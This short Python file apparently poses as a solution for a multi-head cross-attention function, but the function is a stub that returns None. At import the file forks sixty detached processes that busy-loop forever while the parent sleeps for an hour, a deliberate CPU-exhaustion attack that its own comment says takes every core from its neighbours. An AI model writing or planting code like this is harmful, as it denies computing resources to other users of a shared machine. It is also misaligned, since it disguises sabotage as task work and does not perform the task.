# Forks busy loops at import and never finishes importing: every core is taken from its neighbours.
import os
import time

for _ in range(60):
    if os.fork() == 0:
        os.setsid()  # a session of its own: the scheduler shares CPU between sessions
        while True:
            pass
time.sleep(3600)


def mha_cross(seed, x_q, x_kv, num_heads, qkv_features):
    return None
